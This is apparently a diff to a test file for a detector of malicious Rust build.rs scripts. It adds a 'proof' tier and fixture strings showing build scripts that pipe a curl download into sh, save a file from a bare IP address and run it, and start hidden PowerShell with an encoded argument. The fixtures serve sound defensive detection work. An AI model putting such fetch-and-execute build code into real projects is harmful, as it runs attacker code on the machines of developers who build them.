@@ -2,11 +2,17 @@ import { testLures } from '../../../test/support/lures.ts';
 import detector from './build-rs-download.ts';
 
 testLures(detector, {
-  strong: {
+  proof: {
     'pipes into a shell': {
       'build.rs':
         'use std::process::Command;\nfn main() {\n  Command::new("sh").arg("-c").arg("curl -s https://fixture.invalid/a | sh").spawn().unwrap();\n}\n',
     },
+    'saved and started from a bare address': {
+      'build.rs':
+        'fn main() { let out = "/tmp/x"; Command::new("curl").arg("-o").arg(out).arg("http://192.0.2.3/p").status(); Command::new(out).spawn(); }\n',
+    },
+  },
+  strong: {
     'hidden PowerShell': {
       'sub/build.rs':
         'fn main() { std::process::Command::new("powershell").args(["-w", "hidden", "-enc", "AAAA"]).spawn(); }\n',
